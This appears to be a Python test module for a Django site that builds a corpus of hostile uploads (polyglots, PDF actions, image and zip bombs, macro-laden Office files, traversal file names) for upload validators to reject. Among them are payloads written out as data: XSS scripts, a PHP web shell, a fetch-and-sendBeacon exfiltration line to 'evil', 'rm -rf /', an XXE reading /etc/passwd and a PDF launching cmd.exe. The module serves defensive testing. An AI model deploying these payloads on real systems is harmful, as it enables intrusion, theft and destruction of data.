"""A corpus of hostile uploads, generated at test time (no binary files are committed).

``hostile_files()`` returns (category, name, content) triples; every one must be refused by every upload
endpoint. ``legitimate_files()`` returns files of each accepted type that must still pass.
"""

from __future__ import annotations

import functools
import io
import struct
import zipfile
import zlib

from django.conf import settings

SCRIPT = b"<script>alert(document.domain)</script>"
HTML = b"<!doctype html><html><body onload=alert(1)>" + SCRIPT + b"</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
PHP = b"<?php system($_GET['c']); ?>"
WRONG_TYPES = {
    "exe": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"This program cannot be run",
    "elf": b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56,
    "html": HTML,
    "svg": SVG,
    "js": b"fetch('/admin/').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil',t))",
    "php": PHP,
    "gif": b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;",  # noqa: E501
    "bmp": b"BM" + struct.pack("<IHHI", 58, 0, 0, 54) + b"\x00" * 52,
    "rtf": b"{\\rtf1\\ansi{\\object\\objemb{\\*\\objdata 0105000002000000}}}",
    "ole2-doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504,
    "shell": b"#!/bin/sh\nrm -rf / --no-preserve-root\n",
    "bat": b"@echo off\r\nformat c: /q\r\n",
    "json": b'{"__proto__": {"isAdmin": true}}',
    "xml-xxe": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "tar": b"evil.sh" + b"\x00" * 93 + b"0000644\x00" + b"\x00" * 149 + b"ustar\x0000" + b"\x00" * 255,
    "gzip": b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + zlib.compress(b"x" * 100)[2:],
}
TEXT_TYPES = {"js", "json", "shell", "bat"}  # plain text: a valid (if odd) CSV, so not sent as .csv
GOOD_NAMES = ["bao-cao.pdf", "anh.jpg", "anh.jpeg", "anh.png", "bien-ban.docx", "bang.xlsx", "danh-sach.csv"]


# --- building blocks ----------------------------------------------------------------------------------------


@functools.cache
def pdf() -> bytes:
    """A real one-page PDF with a cross-reference table (pypdf)."""
    import pypdf

    writer = pypdf.PdfWriter()
    writer.add_blank_page(595, 842)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_with(body: bytes, *, trailer: bytes = b"") -> bytes:
    """A small hand-written PDF with ``body`` objects and extra trailer entries."""
    head = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    pages = (
        b"2 0 obj\n<< /Type /Pages /Kids [8 0 R] /Count 1 >>\nendobj\n"
        b"8 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>\nendobj\n"
    )
    return head + pages + body + b"trailer\n<< /Root 1 0 R /Size 9 " + trailer + b">>\n%%EOF\n"


def object_stream(objects: bytes) -> bytes:
    data = zlib.compress(b"3 0 " + objects)
    return (
        b"8 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(data)
        + data
        + b"\nendstream\nendobj\n"
    )


def _image(fmt: str, **options) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (40, 30), (200, 30, 30)).save(buffer, fmt, **options)
    return buffer.getvalue()


@functools.cache
def jpeg() -> bytes:
    return _image("JPEG")


@functools.cache
def png() -> bytes:
    return _image("PNG")


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_declaring(width: int, height: int, idat: bytes | None = None) -> bytes:
    """A PNG whose header declares ``width`` × ``height``; the pixel data is tiny (or ``idat``)."""
    header = png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    pixels = png_chunk(b"IDAT", idat if idat is not None else zlib.compress(b"\x00" * 64))
    return b"\x89PNG\r\n\x1a\n" + header + pixels + png_chunk(b"IEND", b"")


def jpeg_declaring(width: int, height: int) -> bytes:
    """The small JPEG with its frame header (SOF0) patched to declare ``width`` × ``height``."""
    data = bytearray(jpeg())
    sof = data.find(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def office(kind: str, extra: dict[str, bytes] | None = None, *, content_types: bytes | None = None,
           compression=zipfile.ZIP_DEFLATED) -> bytes:  # fmt: skip
    """A minimal DOCX or XLSX with ``extra`` parts added."""
    main = "word/document.xml" if kind == "docx" else "xl/workbook.xml"
    parts = {
        "[Content_Types].xml": content_types
        or b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "_rels/.rels": b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>',
        main: b"<document/>",
        **(extra or {}),
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def rels(*relationships: tuple[str, str]) -> bytes:
    body = b"".join(
        b'<Relationship Id="r%d" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
        b'Target="%s" TargetMode="External"/>' % (n, kind.encode(), target.encode())
        for n, (kind, target) in enumerate(relationships)
    )
    return (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + body
        + b"</Relationships>"
    )


def plain_zip(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


# --- the corpus ------------------------------------------------------------------------------------------------


def _wrong_types():
    for label, content in WRONG_TYPES.items():
        for name in GOOD_NAMES:
            if name.endswith(".csv") and label in TEXT_TYPES:
                continue
            yield "wrong type", f"{label}-as-{name}", content
    for name in ("bao-cao.pdf", "anh.jpg", "anh.png", "danh-sach.csv"):
        yield "wrong type", f"zip-as-{name}", plain_zip({"payload.exe": WRONG_TYPES["exe"]})
        yield "wrong type", f"docx-as-{name}", office("docx")
    yield "wrong type", "xlsx-as-bien-ban.docx", office("xlsx")
    yield "wrong type", "docx-as-bang.xlsx", office("docx")
    yield "wrong type", "pdf-as-anh.jpg", pdf()
    yield "wrong type", "jpeg-as-bao-cao.pdf", jpeg()
    yield "wrong type", "png-as-bang.xlsx", png()
    yield "wrong type", "utf16-csv.csv", "Mã,Tên\nA,B\n".encode("utf-16")


def _polyglots():
    for label, payload in {
        "script": SCRIPT,
        "html": HTML,
        "svg": SVG,
        "php": PHP,
        "iframe": b"<iframe src=//x>",
    }.items():
        yield "polyglot", f"pdf-{label}-in-header.pdf", b"%PDF-1.4\n" + payload + b"\n" + pdf()[9:]
        yield "polyglot", f"pdf-{label}-in-object.pdf", pdf_with(b"5 0 obj\n(" + payload + b")\nendobj\n")
        yield (
            "polyglot",
            f"jpeg-{label}-in-comment.jpg",
            jpeg()[:2] + b"\xff\xfe" + struct.pack(">H", len(payload) + 2) + payload + jpeg()[2:],
        )
        yield "polyglot", f"jpeg-{label}-after-end.jpg", jpeg() + payload
        yield "polyglot", f"png-{label}-after-end.png", png() + payload
        yield (
            "polyglot",
            f"png-{label}-in-text-chunk.png",
            png()[:33] + png_chunk(b"tEXt", b"Comment\x00" + payload) + png()[33:],
        )
        yield "polyglot", f"html-{label}-then-pdf.pdf", payload + pdf()
    archive = plain_zip({"shell.php": PHP, "index.html": HTML})
    yield "polyglot", "pdf-zip-appended.pdf", pdf() + archive
    yield (
        "polyglot",
        "pdf-zip-inside.pdf",
        pdf_with(b"6 0 obj\n<< /Length %d >>\nstream\n" % len(archive) + archive + b"\nendstream\nendobj\n"),
    )
    yield "polyglot", "jpeg-zip-appended.jpg", jpeg() + archive
    yield "polyglot", "png-zip-appended.png", png() + archive
    yield "polyglot", "png-zip-in-chunk.png", png()[:33] + png_chunk(b"zzZz", archive) + png()[33:]
    yield "polyglot", "docx-with-html-appended.docx", office("docx") + HTML
    yield "polyglot", "xlsx-with-prefix.xlsx", office("xlsx") + pdf()


def _broken_pdfs():
    whole = pdf()
    for percent in range(5, 100, 5):
        yield "truncated pdf", f"cut-at-{percent}.pdf", whole[: len(whole) * percent // 100]
    xref = whole.rfind(b"\nxref")
    yield "truncated pdf", "cut-in-xref.pdf", whole[: xref + 30]
    yield "truncated pdf", "no-eof.pdf", whole.replace(b"%%EOF", b"")
    yield "truncated pdf", "startxref-past-end.pdf", whole[:xref] + b"startxref\n99999999\n%%EOF\n"
    yield "truncated pdf", "startxref-into-nothing.pdf", whole.rsplit(b"startxref", 1)[0] + b"startxref\n9\n%%EOF\n"
    yield "truncated pdf", "header-only.pdf", b"%PDF-1.7\n"
    yield (
        "truncated pdf",
        "stream-never-ends.pdf",
        b"%PDF-1.4\n1 0 obj\n<< /Length 99 >>\nstream\n" + b"x" * 40 + b"\n%%EOF\n",
    )


def _encrypted_pdfs():
    import pypdf

    for label, options in {
        "user-password-rc4": {"user_password": "x", "algorithm": "RC4-128"},
        "owner-only-rc4": {"user_password": "", "owner_password": "o", "algorithm": "RC4-128"},
        "user-password-rc4-40": {"user_password": "x", "algorithm": "RC4-40"},
    }.items():
        writer = pypdf.PdfWriter(clone_from=io.BytesIO(pdf()))
        writer.encrypt(**options)
        buffer = io.BytesIO()
        writer.write(buffer)
        yield "encrypted pdf", f"{label}.pdf", buffer.getvalue()
    aes = b"/Encrypt << /Filter /Standard /V 5 /R 6 /Length 256 /CF << /StdCF << /CFM /AESV3 >> >> >>"
    yield "encrypted pdf", "aes-256-dictionary.pdf", pdf_with(b"", trailer=aes)
    yield "encrypted pdf", "aes-128-dictionary.pdf", pdf_with(b"", trailer=aes.replace(b"AESV3", b"AESV2"))
    standard = (
        b"7 0 obj\n<< /Filter /Standard /V 1 /R 2 /O <" + b"41" * 32 + b"> /U <" + b"42" * 32 + b"> /P -4 >>\nendobj\n"
    )
    yield "encrypted pdf", "encrypt-escaped-name.pdf", pdf_with(standard, trailer=b"/Encr#79pt 7 0 R")
    yield (
        "encrypted pdf",
        "encrypt-in-object-stream.pdf",
        pdf_with(object_stream(b"<< /Encrypt << /Filter /Standard >> >>")),
    )


ACTIONS = {
    "javascript": b"<< /S /JavaScript /JS (app.alert(1)) >>",
    "js-only": b"<< /JS (this.exportDataObject({cName: 'x', nLaunch: 2})) >>",
    "launch": b"<< /S /Launch /F (cmd.exe) /P (/c calc) >>",
    "launch-win": b"<< /S /Launch /Win << /F (calc.exe) >> >>",
    "submitform": b"<< /S /SubmitForm /F (http://127.0.0.1:9/steal) >>",
    "importdata": b"<< /S /ImportData /F (file:///etc/passwd) >>",
    "gotoe": b"<< /S /GoToE /T << /R /C /N (x) >> >>",
    "richmedia": b"<< /Type /Annot /Subtype /RichMedia /RichMediaContent << >> >>",
    "embedded-file": b"<< /Type /EmbeddedFile /Length 4 >>",
    "embedded-files": b"<< /Names << /EmbeddedFiles << /Names [(x.exe) 9 0 R] >> >> >>",
    "xfa": b"<< /AcroForm << /XFA 9 0 R >> >>",
    "sound": b"<< /S /Sound /Sound 9 0 R >>",
    "movie": b"<< /S /Movie /Annotation 9 0 R >>",
}


def _escaped(action: bytes) -> bytes:
    """Every name's first letter written as #xx, which a reader decodes."""
    for name in (b"JavaScript", b"JS", b"Launch", b"SubmitForm", b"ImportData", b"GoToE", b"RichMedia",
                 b"EmbeddedFiles", b"EmbeddedFile", b"XFA", b"Sound", b"Movie", b"OpenAction", b"AA"):  # fmt: skip
        action = action.replace(b"/" + name, b"/#%02X" % name[0] + name[1:])
    return action


def _active_pdfs():
    for label, action in ACTIONS.items():
        yield "pdf action", f"{label}-open-action.pdf", pdf_with(b"", trailer=b"/OpenAction " + action)
        yield (
            "pdf action",
            f"{label}-page-aa.pdf",
            pdf_with(b"4 0 obj\n<< /Type /Page /AA << /O " + action + b" >> >>\nendobj\n"),
        )
        yield (
            "pdf action",
            f"{label}-escaped.pdf",
            pdf_with(b"4 0 obj\n" + _escaped(b"<< /AA << /O " + action + b" >> >>") + b"\nendobj\n"),
        )
        yield (
            "pdf action",
            f"{label}-in-object-stream.pdf",
            pdf_with(object_stream(b"<< /OpenAction " + action + b" >>")),
        )
    yield (
        "pdf action",
        "open-action-indirect.pdf",
        pdf_with(b"5 0 obj\n<< /S /GoTo /D [2 0 R /Fit] >>\nendobj\n", trailer=b"/OpenAction 5 0 R"),
    )
    names = (
        b"5 0 obj\n<< /Names << /JavaScript 6 0 R >> >>\nendobj\n6 0 obj\n<< /Names [(a) 7 0 R] >>\nendobj\n"
        b"7 0 obj\n<< /S /JavaScript /JS (x) >>\nendobj\n"
    )
    yield "pdf action", "names-javascript.pdf", pdf_with(names)
    yield (
        "pdf action",
        "javascript-in-incremental-update.pdf",
        pdf() + b"9 0 obj\n<< /OpenAction << /S /JavaScript /JS (x) >> >>\nendobj\ntrailer\n<< /Size 10 >>\n%%EOF\n",
    )


def _bombs():
    for width, height in [
        (50_000, 50_000),
        (65_535, 65_535),
        (100_000, 100_000),
        (20_000, 20_000),
        (40_000, 1),
        (1, 40_000),
        (2**31 - 1, 2**31 - 1),
    ]:
        yield "image bomb", f"png-{width}x{height}.png", png_declaring(width, height)
        if max(width, height) <= 65_535:
            yield "image bomb", f"jpeg-{width}x{height}.jpg", jpeg_declaring(width, height)
    yield (
        "image bomb",
        "png-real-bomb-20000x20000.png",
        png_declaring(20_000, 20_000, zlib.compress(b"\x00" * (2501 * 20_000), 9)),
    )
    big = b"<x>" + b"\x00" * (20 * 1024 * 1024) + b"</x>"
    yield "zip bomb", "docx-document-bomb.docx", office("docx", {"word/document.xml": big})
    yield "zip bomb", "xlsx-shared-strings-bomb.xlsx", office("xlsx", {"xl/sharedStrings.xml": big})
    yield "zip bomb", "docx-media-bomb.docx", office("docx", {"word/media/image1.png": big})
    yield "zip bomb", "xlsx-rels-bomb.xlsx", office("xlsx", {"xl/_rels/workbook.xml.rels": b" " * (3 * 1024 * 1024)})
    many = {f"xl/worksheets/sheet{n}.xml": b"<a/>" * 300_000 for n in range(20)}  # 1.2 MB each, ~1000× ratio
    yield "zip bomb", "xlsx-many-parts.xlsx", office("xlsx", many)
    yield "zip bomb", "xlsx-too-many-members.xlsx", office("xlsx", {f"x/{n}": b"" for n in range(6_000)})


def _office_active():
    macro_types = b'<Types><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    yield "office macro", "docx-vba.docx", office("docx", {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0vba"})
    yield "office macro", "xlsx-vba.xlsx", office("xlsx", {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0vba"})
    yield "office macro", "docx-vba-data.docx", office("docx", {"word/vbaData.xml": b"<w:vbaSuppData/>"})
    yield (
        "office macro",
        "docm-renamed.docx",
        office(
            "docx",
            content_types=b'<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',  # noqa: E501
        ),
    )
    yield (
        "office macro",
        "xlsm-renamed.xlsx",
        office(
            "xlsx",
            content_types=b'<Types><Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',  # noqa: E501
        ),
    )
    yield "office macro", "vba-content-type.xlsx", office("xlsx", content_types=macro_types)
    yield "office macro", "docx-activex.docx", office("docx", {"word/activeX/activeX1.xml": b"<ax/>"})
    yield "office macro", "xlsx-activex.xlsx", office("xlsx", {"xl/activeX/activeX1.bin": b"\x00"})
    yield (
        "office link",
        "xlsx-external-link.xlsx",
        office("xlsx", {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}),
    )
    for kind, target in [("attachedTemplate", "http://127.0.0.1:9/t.dotm"), ("oleObject", "file://evil/share/x.bin"),
                         ("frame", "http://127.0.0.1:9/f.html"), ("subDocument", "\\\\evil\\share\\d.docx"),
                         ("image", "http://127.0.0.1:9/pixel.png"), ("externalLinkPath", "file:///C:/secret.xlsx")]:  # fmt: skip  # noqa: E501
        yield (
            "office link",
            f"docx-external-{kind}.docx",
            office("docx", {"word/_rels/document.xml.rels": rels((kind, target))}),
        )
        yield (
            "office link",
            f"xlsx-external-{kind}.xlsx",
            office("xlsx", {"xl/_rels/workbook.xml.rels": rels((kind, target))}),
        )
    encrypted = bytearray(office("docx"))
    for signature in (b"PK\x03\x04", b"PK\x01\x02"):  # set the "encrypted" flag bit on every entry
        start = 0
        while (start := encrypted.find(signature, start)) != -1:
            flag_at = start + (6 if signature == b"PK\x03\x04" else 8)
            encrypted[flag_at] |= 1
            start += 4
    yield "office macro", "docx-encrypted-zip.docx", bytes(encrypted)


def _sizes():
    over = max(settings.UPLOAD_MAX_BYTES, settings.IMPORT_MAX_BYTES) + 1
    padding = {"pdf": pdf()[:-6] + b" " * over, "jpg": jpeg() + b"\x00" * over, "png": png() + b"\x00" * over,
               "docx": office("docx", {"pad.bin": b"\x00" * over}, compression=zipfile.ZIP_STORED),
               "xlsx": office("xlsx", {"pad.bin": b"\x00" * over}, compression=zipfile.ZIP_STORED),
               "csv": b"a,b\n" + b"1,2\n" * (over // 4 + 1)}  # fmt: skip
    for extension, content in padding.items():
        yield "oversize", f"lon.{extension}", content[: over + 1] if extension != "pdf" else content + b"%%EOF\n"
    for extension in ("pdf", "jpg", "png", "docx", "xlsx", "csv"):
        yield "empty", f"rong.{extension}", b""


ODD_NAMES = [
    "../../etc/passwd", "..\\..\\windows\\win.ini", "../../../x.php.pdf", "/etc/shadow", "....//....//.env",
    "report.pdf\x00.exe", "report\x00.pdf.exe", "a" * 300 + ".pdf", "ă" * 200 + ".pdf", "invoice\u202efdp.exe",
    "\u202egpj.exe", "photo\u202egnp.js", "con.pdf", "PRN.pdf", "aux.pdf", "nul.pdf", "com1.pdf", "LPT9.pdf",
    "con", "report.\u03c1df", "report.\uff50\uff44\uff46", "report\u2024pdf", "report.\u0440df", "r\u0435port.p\u0501f",
    ".htaccess", ".pdf", "report.pdf ", "report.pdf.", "a<b>.pdf", 'a"b.pdf', "a|b.pdf", "a:b.pdf", "a?b*.pdf",
    "report.pdf:Zone.Identifier", "x.svg.pdf", "x.html.pdf", "shell.php.pdf", "run.exe.pdf", "x.js.pdf",
    "&lt;script&gt;alert(1)&lt;/script&gt;.pdf", "report.pdf\r\nContent-Type: text/html", "bao-cao.PDF.lnk",
    "file", "bao-cao.exe", "bao-cao.pdf.bat",
]  # fmt: skip


def _odd_names():
    for name in ODD_NAMES:
        yield "odd name", name, pdf()


def hostile_files() -> list[tuple[str, str, bytes]]:
    """Every hostile file: (category, file name, content)."""
    return [
        *_wrong_types(), *_polyglots(), *_broken_pdfs(), *_encrypted_pdfs(), *_active_pdfs(), *_bombs(),
        *_office_active(), *_sizes(), *_odd_names(),
    ]  # fmt: skip


def legitimate_files() -> list[tuple[str, str, bytes]]:
    """Files of every accepted type that must still pass: (type, name, content)."""
    import openpyxl
    import weasyprint

    workbook = openpyxl.Workbook()
    workbook.active.append(["Mã đơn vị", "Tên đơn vị", "=1+1"])
    workbook.active["A3"].hyperlink = "https://thiduakhenthuong.vn"
    buffer = io.BytesIO()
    workbook.save(buffer)
    hyperlink = rels(("hyperlink", "https://thiduakhenthuong.vn"))
    return [
        ("pdf", "Báo cáo quý 1.pdf", pdf()),
        (
            "pdf",
            "bao-cao-weasyprint.pdf",
            weasyprint.HTML(string="<h1>Báo cáo</h1><a href='https://x.vn'>x</a>").write_pdf(),
        ),
        (
            "pdf",
            "toi-gian.pdf",
            (
                b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
                b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
                b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
            ),
        ),
        ("pdf", "mo-trang-1.pdf", pdf_with(b"", trailer=b"/OpenAction [2 0 R /Fit]")),
        ("jpeg", "ảnh chụp.jpg", jpeg()),
        ("jpeg", "anh-progressive.jpeg", _image("JPEG", progressive=True)),
        ("png", "sơ đồ.png", png()),
        ("docx", "biên bản.docx", office("docx", {"word/_rels/document.xml.rels": hyperlink})),
        ("xlsx", "bảng điểm.xlsx", buffer.getvalue()),
        ("csv", "danh sách.csv", "Mã đơn vị,Tên đơn vị\nWA,Phường 1 <b>\n".encode()),
    ]
